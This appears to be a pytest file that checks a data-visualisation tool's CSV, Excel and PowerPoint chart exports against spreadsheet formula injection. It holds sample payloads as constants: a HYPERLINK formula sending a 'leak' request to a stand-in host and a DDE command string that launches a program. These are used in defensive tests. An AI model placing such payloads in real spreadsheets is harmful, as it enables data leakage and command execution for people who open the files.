"""No export path turns data text into a spreadsheet formula or link (#19 point 6)."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from pptx import Presentation
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Inches

from parviz import storyline
from parviz.cli import main
from parviz.export import pptx, tables
from parviz.export.chartdata import TextChartData
from parviz.loading import load_dataset
from tests.helpers import copy_minimal

FORMULA = '=HYPERLINK("http://example.invalid/?leak","bấm")'
COMMAND = "+cmd|' /C calc'!A0"
HOSTILE = [FORMULA, COMMAND, "@SUM(A1:A9)", "-2+3", "http://example.invalid/x"]


@pytest.fixture
def hostile(tmp_path):
    """Return the minimal dataset whose unit c is named like a formula (short name a command)."""
    folder = copy_minimal(tmp_path)
    units = (folder / "units.csv").read_text(encoding="utf-8")
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    units = units.replace("UBND huyện Cẩm Lộc,Cẩm Lộc", f'{quoted},"{COMMAND}"')
    (folder / "units.csv").write_text(units, encoding="utf-8")
    return folder


def test_the_no_change_marker_is_a_sign_not_a_formula_nor_an_apostrophe():
    frame = pd.DataFrame({"unit": ["A"], "change": ["="]})
    text = tables.to_csv_bytes(frame).decode("utf-8-sig")
    assert "±0" in text and "'=" not in text and ",=" not in text
    book = openpyxl.load_workbook(io.BytesIO(tables.to_xlsx_bytes(frame, "x")))
    assert book.active["B2"].value == "±0" and book.active["B2"].data_type == "s"


def test_rank_csv_of_the_cli_neutralises_formulas(hostile, capsys):
    code = main(
        ["--data", str(hostile), "rank", "--year", "2021", "--block", "district", "--format", "csv"]
    )
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    names = {row["unit_id"]: row["unit"] for row in rows}
    assert names["c"] == "'" + FORMULA
    assert float(rows[0]["score_change"]) == -6.0  # numbers stay numbers


def _embedded_cells(deck: bytes) -> list[openpyxl.cell.Cell]:
    archive = zipfile.ZipFile(io.BytesIO(deck))
    cells = []
    for name in archive.namelist():
        if name.startswith("ppt/embeddings/") and name.endswith(".xlsx"):
            book = openpyxl.load_workbook(io.BytesIO(archive.read(name)))
            cells += [c for row in book.active.iter_rows() for c in row if c.value is not None]
    return cells


def _chart_deck(data: CategoryChartData) -> bytes:
    deck = Presentation()
    page = deck.slides.add_slide(deck.slide_layouts[6])
    data.categories = HOSTILE
    data.add_series(FORMULA, [1, 2, 3, 4, 5])
    page.shapes.add_chart(XL_CHART_TYPE.BAR_CLUSTERED, 0, 0, Inches(4), Inches(3), data)
    buffer = io.BytesIO()
    deck.save(buffer)
    return buffer.getvalue()


def test_python_pptx_alone_would_write_formulas_into_the_chart_workbook():
    cells = _embedded_cells(_chart_deck(CategoryChartData()))
    assert any(c.data_type == "f" for c in cells)  # why TextChartData exists


def test_chart_workbooks_keep_hostile_names_as_typed_text():
    cells = _embedded_cells(_chart_deck(TextChartData()))
    assert not [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink]
    values = {c.value for c in cells}
    assert set(HOSTILE) <= values  # shown as typed: no apostrophe on the slide


def test_the_deck_with_a_formula_named_spotlight_has_no_formula_cell(hostile):
    dataset = load_dataset(hostile)
    story = storyline.build(dataset, year=2021, lang="vi", spotlights=["c"])
    cells = _embedded_cells(pptx.build_deck(story, dataset))
    assert cells, "the deck has native charts"
    assert not [c.value for c in cells if c.data_type == "f" or c.hyperlink]
    assert FORMULA in {c.value for c in cells}
